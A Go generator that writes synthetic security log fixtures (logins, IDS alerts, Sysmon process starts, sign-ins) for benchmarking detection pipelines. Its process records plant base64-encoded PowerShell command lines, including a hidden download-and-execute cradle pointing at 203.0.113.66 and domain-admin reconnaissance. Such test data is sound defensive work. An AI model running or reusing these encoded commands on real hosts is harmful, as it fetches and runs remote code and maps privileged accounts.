// Sample writes the small logs of the pipelines, in pipelines/data: logins.jsonl and ids.jsonl, ten minutes of logins of some
// sixty people, a few addresses that try passwords, and what the IDS saw of them; and processes.jsonl, programs that started
// on Windows hosts in these minutes; attempts.jsonl, an hour of logins with three ways of guessing passwords; signins.jsonl, a
// month of these people signing in; sessions.jsonl and factors.jsonl (sequence.go); logons.jsonl, badges.jsonl and
// malware.jsonl (join.go); leases.jsonl, firewall.jsonl, dns.jsonl and indicators.jsonl (attribution.go); auth.log, access.log and
// firewall.csv (logs.go); flows.jsonl, resolver.jsonl and agents.jsonl (rules.go); and places.mmdb (places.go). Run it in the repository's root:
//
//	go run ./bench/gen/sample
package main

import (
	"cmp"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/seed-98920119/tocsin/bench/gen"
)

type line struct {
	ms   int64
	text string
}

func stamp(ms int64) string {
	return gen.Start.Add(time.Duration(ms) * time.Millisecond).Format("2006-01-02T15:04:05.000Z")
}

var names = []string{"amira", "bjorn", "chen", "dora", "emeka", "fatima", "goran", "hana", "ivan", "jonas", "keiko", "lena"}

func login(r *rand.Rand, ms int64, ip, status string) line {
	return line{ms, fmt.Sprintf(`{"login_time":"%s","source_ip":"%s","username":"%s","status":"%s","method":"password","user_agent":"OpenSSH_9.6","session_id":"%08x"}`,
		stamp(ms), ip, names[r.IntN(len(names))], status, r.Uint32())}
}

// burst is n logins within a window of 20 s, from 1 s after its start.
func burst(r *rand.Rand, lines []line, window int64, n int, ip string) []line {
	for i := range n {
		lines = append(lines, login(r, window*20_000+1000+int64(i)*17_000/int64(n)+r.Int64N(300), ip, "failure"))
	}
	return lines
}

func logins(r *rand.Rand) []line {
	var lines []line
	for range 900 {
		lines = append(lines, login(r, r.Int64N(600_000), fmt.Sprintf("10.0.%d.%d", r.IntN(4), 10+r.IntN(60)), "success"))
	}
	for _, w := range []int64{2, 3, 4, 9, 15} {
		lines = burst(r, lines, w, 6+r.IntN(9), "203.0.113.66")
	}
	for _, w := range []int64{6, 7, 21} {
		lines = burst(r, lines, w, 5, "198.51.100.23")
	}
	lines = burst(r, lines, 12, 4, "198.51.100.77") // one too few
	for i := range 6 {                              // three on either side of a window's border
		lines = append(lines, login(r, 18*20_000-2500+int64(i)*1000, "192.0.2.99", "failure"))
	}
	lines = append(lines, login(r, 431_000, "203.0.113.200", "success"), login(r, 502_000, "203.0.113.201", "success"))
	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(a.ms, b.ms) })
	// what real logs have: a torn line, a login without a time, two that arrive long after their window has closed
	lines = slices.Insert(lines, 300, line{text: lines[300].text[:70]})
	lines = slices.Insert(lines, 500, line{text: `{"source_ip":"10.0.1.17","username":"dora","status":"success"}`})
	for _, i := range []int{700, 800} {
		lines = slices.Insert(lines, i, login(r, lines[i-1].ms-45_000, "10.0.2.31", "success"))
	}
	return lines
}

func alerts(r *rand.Rand) []line {
	var lines []line
	add := func(ms int64, ip, class string) {
		lines = append(lines, line{ms, fmt.Sprintf(`{"event_time":"%s","source_ip":"%s","severity":"%s","attack_classification":"%s","signature":"ET-%d","destination":{"ip":"10.0.0.5","port":22}}`,
			stamp(ms), ip, []string{"medium", "high"}[r.IntN(2)], class, 2_000_000+r.IntN(9999))})
	}
	for range 56 {
		add(r.Int64N(600_000), fmt.Sprintf("192.0.2.%d", 100+r.IntN(100)), "port-scan")
	}
	add(120_500, "198.51.100.23", "ssh-brute-force")
	add(425_000, "203.0.113.200", "credential-stuffing")
	add(509_000, "203.0.113.201", "credential-stuffing")
	add(240_000, "198.51.100.77", "port-scan")
	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(a.ms, b.ms) })
	return lines
}

// encoded is a command as PowerShell's -EncodedCommand wants it: UTF-16, little endian, in base64.
func encoded(command string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(command)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// processes are named as Sysmon names them (event 1).
func processes(r *rand.Rand) []line {
	var lines []line
	add := func(ms int64, host, user, image, command string) {
		b, err := json.Marshal(struct {
			UtcTime, Computer, User, Image, CommandLine, ParentImage string
			ProcessId                                                int
		}{stamp(ms), host, user, image, command, `C:\Windows\explorer.exe`, 1000 + 4*r.IntN(5000)})
		if err != nil {
			log.Fatal(err)
		}
		lines = append(lines, line{ms, string(b)})
	}
	const shell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	usual := [][2]string{
		{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k netsvcs -p`},
		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami`},
		{`C:\Program Files\Browser\browser.exe`, `"C:\Program Files\Browser\browser.exe" --type=renderer`},
		{shell, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`},
		{`C:\Tools\ffmpeg.exe`, `ffmpeg -encoders`},
	}
	for range 300 {
		u := usual[r.IntN(len(usual))]
		add(r.Int64N(600_000), fmt.Sprintf("WS-%03d", r.IntN(60)), `CORP\`+names[r.IntN(len(names))], u[0], u[1])
	}
	download := encoded(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')`)
	add(95_000, "WS-014", `CORP\chen`, shell, "powershell.exe -nop -w hidden -EncodedCommand "+download)
	add(171_000, "WS-022", `CORP\hana`, shell, "powershell -e "+download)
	add(333_000, "WS-022", `CORP\hana`, `C:\Program Files\PowerShell\7\pwsh.exe`, "pwsh -eNc "+encoded("whoami /all; net group 'domain admins' /domain"))
	add(402_000, "WS-051", `CORP\ivan`, shell, `"`+shell+`" -EC `+encoded("Get-ChildItem -Recurse C:\\Users"))
	for _, ms := range []int64{60_000, 360_000} { // the agent that deploys software does it all the time
		add(ms, "DEPLOY-01", `NT AUTHORITY\SYSTEM`, shell, "powershell.exe -NonInteractive -EncodedCommand "+encoded("Install-Package -Name agent -Force"))
	}
	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(a.ms, b.ms) })
	return lines
}

// attempts are an hour of logins, a few seconds out of order: one address tries a password on many users, one many passwords
// on a user until it gets in, one a password every few minutes; and two that arrive long after their time.
func attempts(r *rand.Rand) []line {
	var lines []line
	add := func(ms int64, ip, user, status string) {
		lines = append(lines, line{ms, fmt.Sprintf(`{"login_time":"%s","source_ip":"%s","username":"%s","status":"%s"}`, stamp(ms), ip, user, status)})
	}
	for range 400 {
		add(r.Int64N(3_600_000), fmt.Sprintf("10.0.%d.%d", r.IntN(4), 10+r.IntN(60)), names[r.IntN(len(names))], []string{"failure", "success"}[min(r.IntN(10), 1)])
	}
	for i := range int64(24) {
		add(600_000+i*9000+r.Int64N(3000), "203.0.113.66", fmt.Sprintf("user%02d", i), "failure")
	}
	for i := range int64(60) {
		add(1_500_000+i*3000+r.Int64N(2000), "198.51.100.23", "dora", "failure")
	}
	add(1_684_000, "198.51.100.23", "dora", "success")
	for i := range int64(24) {
		add(30_000+i*148_000+r.Int64N(60_000), "192.0.2.99", "admin", "failure")
	}
	arrival := map[string]int64{}
	for _, l := range lines {
		arrival[l.text] = l.ms + r.Int64N(4000)
	}
	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(arrival[a.text], arrival[b.text]) })
	for _, i := range []int{200, 400} {
		late := lines[i].ms - 600_000
		lines = slices.Insert(lines, i, line{late, fmt.Sprintf(`{"login_time":"%s","source_ip":"10.0.9.9","username":"lena","status":"failure"}`, stamp(late))})
	}
	return lines
}

// signins are a month of people at work: at home in one country, some of them travelling.
func signins(r *rand.Rand) []line {
	var lines []line
	const day = 86_400_000
	add := func(ms int64, user, country, result string, interactive bool) {
		where := fmt.Sprintf(`"country":"%s",`, country)
		if country == "" { // an address that nobody could place
			where = ""
		}
		lines = append(lines, line{ms, fmt.Sprintf(`{"time":"%s","user":"%s",%s"ip":"192.0.2.%d","app":"%s","result":"%s","interactive":%v}`,
			stamp(ms), user, where, 1+r.IntN(254), []string{"mail", "vpn", "wiki"}[r.IntN(3)], result, interactive)})
	}
	homes := []string{"DE", "SE", "DE", "DE", "NG", "DE", "RS", "JP", "DE", "DE", "JP", "DE"}
	for d := range int64(30) {
		for i, user := range names {
			for range r.IntN(3) {
				country := homes[i]
				if user == "ivan" && d >= 4 && d < 8 { // a journey while it learns
					country = "AT"
				}
				add(d*day+r.Int64N(10*3_600_000), user, country, []string{"success", "success", "success", "failure"}[r.IntN(4)], true)
			}
		}
		add(d*day+7*3_600_000, "svc-backup", "DE", "success", false)
	}
	add(2*day+50, "fatima", "FR", "success", true) // long ago when she goes there again
	add(25*day+50, "fatima", "FR", "success", true)
	add(16*day+9_000_000, "ivan", "AT", "success", true) // he has been there
	for h := range int64(3) {
		add(18*day+h*3_600_000, "chen", "NL", "success", true) // new once
	}
	add(19*day+100, "dora", "KP", "failure", true) // tried, and not in
	add(20*day+5_000, "dora", "", "success", true)
	add(21*day+77_000, "keiko", "BR", "success", true)
	add(22*day+31_000, "svc-backup", "DE", "success", true) // nobody is behind that name
	add(22*day+45_000, "svc-backup", "BR", "success", true)
	slices.SortStableFunc(lines, func(a, b line) int { return cmp.Compare(a.ms, b.ms) })
	late := slices.IndexFunc(lines, func(l line) bool { return l.ms == 21*day+77_000 }) // an hour behind everything else
	to := slices.IndexFunc(lines, func(l line) bool { return l.ms > 21*day+77_000+3_600_000 })
	l := lines[late]
	return slices.Insert(slices.Delete(lines, late, late+1), to-1, l)
}

func main() {
	r := rand.New(rand.NewPCG(7, 7))
	sessions, factors := sessions(rand.New(rand.NewPCG(10, 10)))
	logons, badges, malware := presence(rand.New(rand.NewPCG(11, 11)))
	leases, firewall, dns, indicators := attribution(rand.New(rand.NewPCG(12, 12)))
	flows, queries := control(rand.New(rand.NewPCG(13, 13)))
	auth, access, refused := logs(rand.New(rand.NewPCG(12, 12)))
	for name, lines := range map[string][]line{"auth.log": auth, "access.log": access, "firewall.csv": refused, "logins": logins(r), "ids": alerts(rand.New(rand.NewPCG(8, 8))), "processes": processes(rand.New(rand.NewPCG(9, 9))),
		"attempts": attempts(rand.New(rand.NewPCG(10, 10))), "signins": signins(rand.New(rand.NewPCG(10, 10))), "sessions": sessions, "factors": factors,
		"logons": logons, "badges": badges, "malware": malware,
		"leases": leases, "firewall": firewall, "dns": dns, "indicators": indicators,
		"flows": flows, "resolver": queries, "agents": agents(rand.New(rand.NewPCG(14, 14)))} {
		var b strings.Builder
		for _, l := range lines {
			b.WriteString(l.text + "\n")
		}
		if !strings.Contains(name, ".") {
			name += ".jsonl"
		}
		if err := os.WriteFile("pipelines/data/"+name, []byte(b.String()), 0o644); err != nil {
			log.Fatal(err)
		}
	}
	places("pipelines/data/places.mmdb")
}
